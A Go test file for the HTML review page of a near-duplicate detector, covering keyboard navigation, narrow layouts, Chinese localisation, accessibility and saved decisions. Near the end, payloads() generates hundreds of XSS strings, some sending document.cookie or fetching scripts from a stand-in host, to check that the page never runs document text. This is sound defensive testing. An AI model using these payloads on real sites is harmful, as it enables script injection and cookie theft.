package report_test

import (
	"encoding/json"
	"fmt"
	"os"
	"regexp"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/neardup/neardup"
	"github.com/neardup/neardup/eval"
	"github.com/neardup/neardup/internal/test/browser"
	"github.com/neardup/neardup/report"
)

// news returns a small run with groups of several kinds, in two languages.
func news() []decided {
	long := strings.Repeat("All of this was said before in the same words and in the same order. ", 40)
	edited := strings.Replace(long, "was said", "has been said", 1)
	variant := kept("hotel-2", "Room 212 is booked from 4 May to 6 May, breakfast included.")
	variant.VariantOf, variant.Conflicts = "hotel", []neardup.Conflict{{Kind: "number", A: "212", B: "118"}}
	all := []decided{
		kept("fox", "The quick brown fox jumps over the lazy dog, and nobody minds at all."),
		duplicate("fox-2", "fox", "The quick brown fox jumped over the lazy dog, and nobody minds at all.", .95),
		duplicate("fox-3", "fox", "The quick brown fox jumps over the lazy dog, and nobody minds at all.", 1),
		duplicate("fox-4", "fox", "THE QUICK BROWN FOX jumps over 13 lazy dogs, and nobody minds at all.", .85),
		kept("新闻", "西安新增本土确诊13例，均在隔离管控中发现。"), duplicate("新闻-2", "新闻", "西安新增本土確診１３例，均在隔離管控中發現。", .98),
		kept("long", long), duplicate("long-2", "long", edited, .99),
		kept("hotel", "Room 118 is booked from 4 May to 6 May, breakfast included."), variant,
		kept("alone", "Nothing is like this one."),
	}
	all[0].doc.Title, all[0].doc.URL = "A fox", "https://news.example/fox"
	all[1].doc.Title, all[1].doc.URL = "A fox again", "javascript:alert(1)"
	return all
}

func open(t *testing.T, width int64, all []decided) (*browser.Tab, string) {
	t.Helper()
	return openRun(t, width, newsRun(), all)
}

func openRun(t *testing.T, width int64, run report.Run, all []decided) (*browser.Tab, string) {
	t.Helper()
	path := save(t, page(t, report.Options{}, run, all))
	tab := browser.Open(t, width)
	tab.Go(path)
	return tab, path
}

func newsRun() report.Run {
	return report.Run{
		Inputs: []string{"news.jsonl"}, Set: "news", Method: "minhash/1 recall=0.99", Digest: "0123abcd", Command: "neardup dedup news.jsonl", Rejected: 1,
		Rejects: []report.Reject{{Reason: "not a JSON object", Count: 1, Examples: []string{"news.jsonl:7"}}},
		Stages:  []report.Stage{{Name: "read", Seconds: 1.5, CPU: 2, PeakBytes: 1 << 20}},
		Lengths: []report.Bin{{Label: "32–63", Count: 11}},
	}
}

// measuredRun measured itself, and was measured on known pairs.
func measuredRun() report.Run {
	run, part := newsRun(), eval.Rate{Of: 72, Count: 55, Share: .7639, Low: .6539, High: .8471}
	run.Recall = []eval.Band{{Low: .5, High: .6, Recall: part}, {Low: 1, High: 1, Recall: part}}
	run.Quality = &report.Quality{Recall: part, Sample: part, Above: part, Below: part, Texts: 64, Against: 74, Border: .05,
		Edits:    []report.EditShare{{Kind: "number", Made: 72, Near: 72, Found: part}},
		Removals: []report.AuditedPair{{ID: "新闻-2", Other: "新闻", Similarity: .85}}}
	return run
}

func ready(tab *browser.Tab, view string) {
	tab.Wait("document.querySelector('main').dataset.ready === '" + view + "' && document.querySelector('main').childElementCount")
}

const innerTexts = "[...document.querySelectorAll(%q)].map((e) => e.innerText).join('|')"

// shows waits until the elements of a selector have a text, joined by |.
func shows(tab *browser.Tab, selector, text string) {
	tab.Wait(fmt.Sprintf(innerTexts+" === %q", selector, text))
}

// includes waits until the elements of a selector hold all parts.
func includes(tab *browser.Tab, selector string, parts ...string) {
	for _, part := range parts {
		tab.Wait(fmt.Sprintf(innerTexts+".includes(%q)", selector, part))
	}
}

// The page shows pictures next to the kept one, as its policy allows.
func TestPictures(t *testing.T) {
	t.Parallel()
	const dot = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
	all := []decided{kept("a.jpg", "pdq:00 quality:90"), duplicate("b.jpg", "a.jpg", "pdq:01 quality:90", .99)}
	for i := range all {
		all[i].picture = dot
	}
	tab, _ := open(t, 1280, all)
	ready(tab, "run")
	tab.Press("2")
	tab.Wait("document.querySelectorAll('.row').length === 1")
	tab.Wait("document.querySelector('.row img')?.naturalWidth === 1")
	shows(tab, ".row .title", "a.jpg")
	tab.Press("j\r")
	tab.Wait("[...document.querySelectorAll('.member img')].filter((e) => e.naturalWidth === 1).length === 3")
	shows(tab, "#group-title", "a.jpg")
}

// A person decides about a whole group, sees how far it is, and looks for what is
// left.
func TestWholeGroups(t *testing.T) {
	t.Parallel()
	tab, path := open(t, 1280, news())
	ready(tab, "run")
	tab.Press("2")
	tab.Wait("document.querySelectorAll('.row').length === 4")
	tab.Press("j\r")
	tab.Wait("document.querySelectorAll('.member').length > 1")
	tab.Press("K")
	tab.Wait("document.querySelectorAll('.member').length === 4")
	tab.Press("jn") // one by itself
	shows(tab, ".whole [role=status]", "1 of 3 decided")
	tab.Press("D") // the others
	tab.Wait("document.querySelectorAll('.member[data-verdict=duplicate]').length === 2 && document.querySelectorAll('.member[data-verdict=different]').length === 1")
	shows(tab, ".whole [role=status]", "3 of 3 decided")
	shows(tab, ".row .chip.good", "✓ 3")
	shows(tab, ".side > p", "4 groups · 1 of 4 groups decided")
	browser.Eval[any](tab, "document.querySelector('#undecided').click()")
	tab.Wait("document.querySelectorAll('.row').length === 3")
	browser.Eval[any](tab, "document.querySelector('#undecided').click()")
	tab.Wait("document.querySelectorAll('.row').length === 4")
	browser.Eval[any](tab, "document.activeElement.blur()")
	tab.Press("D") // nothing is left, so it is taken back
	tab.Wait("document.querySelectorAll('.member[data-verdict=duplicate]').length === 0 && document.querySelectorAll('.member[data-verdict=different]').length === 1")
	tab.Press("z") // so is that
	tab.Wait("document.querySelectorAll('.member[data-verdict=duplicate]').length === 2")
	tab.Press("z") // and D itself, which is one step
	tab.Wait("document.querySelectorAll('.member[data-verdict=duplicate]').length === 0 && document.querySelectorAll('.member[data-verdict=different]').length === 1")
	browser.Eval[any](tab, "[...document.querySelectorAll('.row')].find((r) => r.innerText.includes('Room 118')).click()")
	tab.Wait("document.querySelector('.member:nth-child(2) .chip.variant')")
	tab.Press("D") // a variant is not a duplicate
	tab.Wait("document.querySelector('.toast').innerText.includes('one by one')")
	if n := browser.Eval[int](tab, "document.querySelectorAll('.member[data-verdict=duplicate]').length"); n > 0 {
		t.Errorf("D marks %d variants", n)
	}
	quiet(t, tab, path)
}

// narrow finds a value next to its name that is a column of letters, or a panel wider than the page.
const narrow = `[...document.querySelectorAll('dd, .panel')].filter((e) => e.offsetParent &&
	(e.clientWidth < 80 || e.matches('.panel') && e.scrollWidth > e.clientWidth)).map((e) => e.innerText.slice(0, 60)).join('; ')`

// covered names the buttons that the toast covers, and the selected member if the bar does.
const covered = `(() => {
	const box = (e) => e.getBoundingClientRect(), toast = box(document.querySelector('.toast')), at = document.querySelector('.member.at');
	const over = (a, b) => a.left < b.right && b.left < a.right && a.top < b.bottom && b.top < a.bottom;
	const buttons = [...document.querySelectorAll('.tools button, .member.at button')].filter((e) => e.offsetParent && over(toast, box(e)));
	return buttons.map((e) => e.innerText).join() + (box(at).top < box(document.querySelector('.tools')).bottom ? ' the selected member' : '');
})()`

// Nothing is wider than a small telephone, in any view, and nothing covers what is selected.
func TestNarrow(t *testing.T) {
	t.Parallel()
	tab, path := openRun(t, 390, measuredRun(), news())
	for _, view := range []string{"run", "groups", "decide", "groups/0"} {
		browser.Eval[any](tab, "location.hash = '#"+view+"'")
		ready(tab, strings.TrimSuffix(view, "/0"))
		if view == "groups/0" {
			tab.Wait("document.querySelectorAll('.member').length > 1")
		}
		if wide := browser.Eval[int](tab, "document.documentElement.scrollWidth"); wide > 390 {
			t.Errorf("%s is %d wide", view, wide)
		}
		if cut := browser.Eval[string](tab, narrow); cut != "" {
			t.Errorf("%s has no room for %q", view, cut)
		}
	}
	for _, width := range []int64{390, 800, 1280} {
		tab.Width(width)
		tab.Press("jjjjkkd")
		tab.Wait("document.querySelector('.toast.on')")
		if over := browser.Eval[string](tab, covered); over != "" {
			t.Errorf("%d wide, covered: %s", width, over)
		}
	}
	quiet(t, tab, path)
}

// In Chinese, what is left in English are names and data.
func TestChineseToTheEnd(t *testing.T) {
	t.Parallel()
	tab, path := openRun(t, 1280, measuredRun(), news())
	tab.Press("l")
	tab.Wait("document.documentElement.lang === 'zh-CN'")
	names := regexp.MustCompile(`minhash/1 recall=0\.99|news\.jsonl|neardup|dedup|--overrides|0123abcd|not a JSON object|https?:\S+|\b(CPU|MiB|ms|s|B|eval|tune|devel|minhash|ngram|Jaccard|min)\b`)
	for _, view := range []string{"run", "decide", "groups/3"} {
		browser.Eval[any](tab, "location.hash = '#"+view+"'")
		ready(tab, strings.TrimSuffix(view, "/3"))
		if view == "groups/3" {
			tab.Wait("document.querySelectorAll('.member').length > 1")
		}
		shown := browser.Eval[string](tab, "(() => { const m = document.querySelector('main').cloneNode(true); m.querySelectorAll('.row, .text, .id, .url, h3, #group-title, .glue q, code, dd, kbd, input').forEach((e) => e.remove()); return document.body.append(m), m.innerText + (m.remove(), ''); })()")
		if left := regexp.MustCompile(`[A-Za-z]{2,}[A-Za-z ]*`).FindAllString(names.ReplaceAllString(shown, ""), -1); len(left) > 0 {
			t.Errorf("%s says %q", view, left)
		}
	}
	quiet(t, tab, path)
}

// A person uses every view by keys alone, decides, reverts and saves. The page requests only its own file,
// and the policy blocks nothing.
func TestEveryViewAndKey(t *testing.T) {
	t.Parallel()
	tab, path := open(t, 1280, news())
	ready(tab, "run")
	includes(tab, "main", "11", "5", "minhash/1", "edit similarity of runes", "not a JSON object", "news.jsonl:7", "0123abcd", "neardup dedup news.jsonl", "99 %")
	tab.Press("2")
	tab.Wait("document.querySelectorAll('.row').length === 4")
	tab.Press("jk\r")
	tab.Wait("document.querySelectorAll('.member').length === 4")
	shows(tab, "#group-title", "A fox") // the largest
	includes(tab, ".glue q", "nobody minds")
	shows(tab, ".member:nth-child(2) :is(del, ins)", "jumps|jumped")
	if browser.Eval[int](tab, "document.querySelectorAll('main a[href^=javascript]').length") > 0 {
		t.Error("an address that is none of the web is a link")
	}
	tab.Press("jn")  // fox-2 is no duplicate
	tab.Press("jd")  // fox-3 is
	tab.Press("ju")  // fox-4
	tab.Press("kkz") // the last is taken back, and is the one to look at
	tab.Wait("document.activeElement.getAttribute('aria-label')?.endsWith('fox-4')")
	tab.Press("e")
	var got []string
	for line := range strings.Lines(tab.Saved("overrides.jsonl")) {
		var o struct{ A, B, Link, Who, Time string }
		if err := json.Unmarshal([]byte(line), &o); err != nil {
			t.Fatal(err)
		}
		got = append(got, strings.Join([]string{o.A, o.B, o.Link, o.Who}, " "))
	}
	if d := cmp.Diff([]string{"fox fox-2 cannot anonymous", "fox fox-3 must anonymous"}, got); d != "" {
		t.Error(d)
	}
	tab.Press("s")
	tab.Wait("document.querySelector('.pair')") // side by side
	tab.Press("s")
	tab.Press("J")
	tab.Wait("document.querySelector('#group-title').innerText.startsWith('西安')")
	shows(tab, ".differs .chip", "script|width")
	tab.Press("J")
	tab.Wait("document.querySelector('#group-title').innerText.startsWith('All')")
	includes(tab, ".fold", "equal")
	tab.Press("x")
	shows(tab, ".fold", "")
	tab.Press("J")
	tab.Wait("document.querySelector('.member:nth-child(2) .chip.variant')")
	includes(tab, ".member:nth-child(2) .chip", "variant", "number: 118 → 212")
	tab.Press("K")
	tab.Press("\x1b")
	tab.Wait("!document.querySelector('.opened')")
	tab.Press("/")
	tab.Wait("document.activeElement.id === 'search'")
	browser.Eval[any](tab, "(() => { const s = document.activeElement; s.value = '隔离'; s.dispatchEvent(new Event('input')); })()")
	tab.Wait("document.querySelectorAll('.row').length === 1")
	tab.Press("\x1b")
	tab.Press("3")
	ready(tab, "decide")
	browser.Eval[any](tab, "(() => { const who = document.querySelector('.who input'); who.value = 'Li'; who.dispatchEvent(new Event('change')); })()")
	browser.Eval[any](tab, "document.querySelectorAll('.file button')[1].click()")
	labels := "set\tid_a\tid_b\tlabel\tband\nnews\tfox\tfox-2\tother\tedit .95-1.00 short\nnews\tfox\tfox-3\tsame\tequal .95-1.00 short\n"
	if d := cmp.Diff(labels, tab.Saved("labels.tsv")); d != "" {
		t.Error(d)
	}
	browser.Eval[any](tab, "document.querySelectorAll('.file button')[2].click()")
	if got := tab.Saved("audit.jsonl"); strings.Count(got, "\n") != 4 || strings.Count(got, `"undo":true`) != 1 || !strings.Contains(got, `"before":"","after":"different"`) {
		t.Errorf("the audit trail:\n%s", got)
	}
	tab.Press("?")
	tab.Wait("document.querySelector('dialog[open]')")
	tab.Press("\x1b")
	tab.Wait("!document.querySelector('dialog')")
	tab.Press("l")
	tab.Wait("document.documentElement.lang === 'zh-CN'")
	tab.Press("t")
	tab.Wait("document.documentElement.dataset.theme === 'dark'")
	tab.Go(path) // opened again, it still knows
	ready(tab, "run")
	shows(tab, ".badge", "2")
	tab.Wait("document.documentElement.dataset.theme === 'dark'")
	quiet(t, tab, path)
}

// quiet: nothing was asked for but the page, and nothing went wrong.
func quiet(t *testing.T, tab *browser.Tab, path string) {
	t.Helper()
	for _, r := range tab.Requests() {
		if r != "file://"+path {
			t.Errorf("it asked for %s", r)
		}
	}
	if p := tab.Problems(); len(p) > 0 {
		t.Errorf("problems:\n%s", strings.Join(p, "\n"))
	}
}

func TestAxeFindsNothing(t *testing.T) {
	t.Parallel()
	tab, _ := open(t, 1280, news())
	look := func(what string) {
		for _, f := range tab.Axe() {
			t.Errorf("%s: %s", what, f)
		}
	}
	ready(tab, "run")
	for _, theme := range []string{"light", "dark"} {
		tab.Press("1")
		ready(tab, "run")
		look("run " + theme)
		tab.Press("2")
		ready(tab, "groups")
		tab.Wait("document.querySelector('.row')")
		browser.Eval[any](tab, "document.querySelector('.filters').open = true")
		tab.Press("\r")
		tab.Wait("document.querySelector('.member')")
		tab.Press("n")
		look("group " + theme)
		tab.Width(400)
		look("narrow group " + theme)
		tab.Press("\x1b")
		look("narrow list " + theme)
		tab.Press("3")
		ready(tab, "decide")
		look("decisions " + theme)
		tab.Width(1280)
		tab.Press("?")
		look("help " + theme)
		tab.Press("\x1b")
		tab.Press("tl")
	}
}

// payloads returns texts that would act if a page used them as markup, as an address or in a script.
func payloads() []string {
	var out []string
	for _, act := range []string{"pwned=1", "fetch('http://elsewhere.example/'+1)", "window.pwned=document.cookie", "alert(1)", "import('http://elsewhere.example/x.js')"} {
		for _, form := range []string{
			"<script>%s</script>", "</script><script>%s</script>", "<img src=x onerror=%s>", "<img src=http://elsewhere.example/x onload=%s>", "<svg onload=%s>", "<svg><script>%s</script></svg>",
			"<iframe srcdoc='<script>%s</script>'>", "<iframe src=javascript:%s>", "<body onload=%s>", "<a href=javascript:%s>x</a>", "javascript:%s", "data:text/html,<script>%s</script>",
			"\"><script>%s</script>", "'><script>%s</script>", "\" onmouseover=\"%s", "' autofocus onfocus='%s", "<input autofocus onfocus=%s>", "<details open ontoggle=%s>", "<video><source onerror=%s>", "<audio src=x onerror=%s>",
			"<math><mtext></form><form><mglyph><style></math><img src onerror=%s>", "<!--<img src=--><img src=x onerror=%s>", "<![CDATA[<script>%s</script>]]>", "<style>@import 'http://elsewhere.example/x.css';</style>%s", "<link rel=stylesheet href=http://elsewhere.example/%s>",
			"<meta http-equiv=refresh content=0;url=javascript:%s>", "<base href=http://elsewhere.example/>%s", "<object data=javascript:%s>", "<embed src=javascript:%s>", "<form action=javascript:%s><input type=submit autofocus>",
			"{{constructor.constructor('%s')()}}", "${%s}", "`-(%s)-`", "';%s//", "\\';%s//", "*/%s/*", "]]>%s<![CDATA[", "%%3Cscript%%3E%s%%3C/script%%3E", "&lt;script&gt;%s&lt;/script&gt;", "&#60;script&#62;%s&#60;/script&#62;",
			"\u2028%s\u2029", "\x00<script>%s</script>", "\ufeff<script>%s</script>", "<scr\x00ipt>%s</scr\x00ipt>", "＜script＞%s＜/script＞", "<script/src=data:,%s>", "<template><script>%s</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=%s>\">",
			"<portal src=javascript:%s>", "<marquee onstart=%s>", "<xss style=animation:x onanimationstart=%s>", "<textarea><script>%s</script></textarea>", "<title></title><script>%s</script>", "<a href=\"jAvAsCrIpT:%s\">", "<a href=' javascript:%s'>",
			"vbscript:%s", "https://x\" onclick=\"%s", "https://x/<script>%s</script>", "\\u003cscript\\u003e%s", "__proto__ %s", "constructor%s",
		} {
			out = append(out, fmt.Sprintf(form, act))
		}
	}
	return out
}

// No text of a document does anything, whatever field it stands in.
func TestTextsAreOnlyTexts(t *testing.T) {
	t.Parallel()
	list := payloads()
	if len(list) < 300 {
		t.Fatalf("only %d payloads", len(list))
	}
	var all []decided
	for i, p := range list {
		d := kept(fmt.Sprint(p, " ", i), p+" and some words that all of them share in the end")
		if i%50 > 0 {
			d = duplicate(d.doc.ID, all[i-i%50].doc.ID, d.doc.Text, .9)
			d.Basis, d.Via = p, p
			if i%50 == 7 {
				d.Conflicts = []neardup.Conflict{{Kind: p, A: p, B: p}}
			}
		}
		d.doc.Title, d.doc.URL = p, p
		all = append(all, d)
	}
	tab, path := open(t, 1280, all)
	ready(tab, "run")
	tab.Press("2")
	for g := range (len(all) + 49) / 50 {
		tab.Wait("document.querySelector('.row')")
		browser.Eval[any](tab, fmt.Sprintf("document.querySelectorAll('.row')[%d].click()", g))
		for more := 20; more < min(50, len(all)-50*g); more += 20 {
			tab.Wait(fmt.Sprintf("document.querySelectorAll('.member').length > %d && document.querySelector('.row[aria-selected=true]')?.id === 'row-%d'", more, g))
			browser.Eval[any](tab, "document.querySelector('.more button').click()")
		}
		tab.Wait(fmt.Sprintf("document.querySelectorAll('.member').length === %d", min(50, len(all)-50*g)))
		tab.Press("jn")
	}
	tab.Press("3")
	ready(tab, "decide")
	if browser.Eval[bool](tab, "'pwned' in window") {
		t.Error("a text was run")
	}
	if n := browser.Eval[int](tab, "document.querySelectorAll('main :is(script, img, iframe, object, embed, svg script, link, meta, base, style, form)').length"); n > 0 {
		t.Errorf("texts made %d elements", n)
	}
	quiet(t, tab, path)
	if err := os.Remove(path); err != nil {
		t.Error(err)
	}
}
